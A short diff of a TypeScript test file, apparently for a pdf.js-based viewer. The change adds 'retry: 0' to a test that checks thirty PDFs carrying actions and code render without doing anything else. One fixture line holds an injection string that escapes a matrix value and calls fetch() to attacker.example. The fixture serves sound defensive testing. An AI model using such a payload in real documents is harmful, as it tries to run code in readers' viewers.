@@ -55,7 +55,9 @@ const files: readonly Buffer[] = [
   matrix('1\\);fetch\\(`http://attacker.example/`\\);//'),
 ]
 
-test('thirty PDFs that carry actions and code are drawn, and do nothing else (T02)', async () => {
+test('thirty PDFs that carry actions and code are drawn, and do nothing else (T02)', {
+  retry: 0,
+}, async () => {
   expect(files.length).toBeGreaterThanOrEqual(30)
   const { page, expectComplaint } = await newReader()
   // What pdf.js says of actions it does not know and fonts that are not there.
